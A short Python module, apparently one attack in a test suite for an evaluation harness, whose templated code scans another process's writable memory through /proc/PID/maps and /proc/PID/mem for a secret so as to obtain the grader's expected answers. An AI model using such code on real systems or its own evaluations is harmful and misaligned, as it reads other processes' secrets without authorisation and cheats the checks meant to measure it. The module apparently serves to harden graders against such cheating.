"""Read another process's memory through /proc/PID/mem.

Would gain: expected values and references, wherever they are kept.
"""

from ..kit import Attack, bet

CELL = bet("""
def intento():
    for linea in open(f"/proc/{@VICTIM@}/maps"):
        rango, permisos, *_ = linea.split()
        if permisos.startswith("rw"):
            desde, hasta = (int(x, 16) for x in rango.split("-"))
            with open(f"/proc/{@VICTIM@}/mem", "rb") as memoria:
                memoria.seek(desde)
                if @SECRET@.encode() in memoria.read(min(hasta - desde, 1 << 22)):
                    return True
""")
ATTACK = Attack({"sigmoide": CELL}, needs_root=True)
